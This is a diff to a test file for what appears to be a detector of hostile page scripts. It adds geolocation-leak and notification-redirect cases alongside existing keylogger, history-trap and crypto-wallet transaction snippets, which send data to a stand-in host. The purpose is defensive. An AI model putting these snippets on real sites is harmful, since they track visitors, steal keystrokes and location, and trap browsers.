@@ -88,6 +88,7 @@ def test_a_block_of_links_to_sellers_is_a_farm() -> None:
 
 AWAY = "https://win.test-bet.com/"
 POP = "for(var i=0;i<9;i++)history.pushState({},'',location.href);addEventListener('popstate',function(){%s})"
+PLACE = "navigator.geolocation.getCurrentPosition(p=>{fetch('%s'+p.coords.latitude)})"
 ASK = "ethereum.request({method:'eth_requestAccounts'}).then(a=>ethereum.request({method:'eth_sendTransaction'}))"
 LOAD = "var a=document.createElement('a');a.href='%s';a.click()"
 
@@ -109,6 +110,11 @@ LOAD = "var a=document.createElement('a');a.href='%s';a.click()"
         (f"pay.onclick=()=>{ASK}", None),
         (f"var k='';onkeydown=e=>{{k+=e.key;fetch('{AWAY}?k='+k)}}", "key-logger"),
         ("var k='';onkeydown=e=>{k+=e.key;fetch('/search?k='+k)}", None),
+        (PLACE % AWAY, "permission-trap"),
+        (PLACE % "/near?at=", None),
+        (f"near.onclick=()=>{{{PLACE % AWAY}}}", None),
+        (f"if(asked){{{PLACE % AWAY}}}", None),
+        (f"onload=()=>{{Notification.requestPermission().then(()=>{{location.href='{AWAY}'}})}}", "permission-trap"),
     ],
 )
 def test_scripts_that_hold_visitors_or_take_from_them(script: str, kind: str | None) -> None:
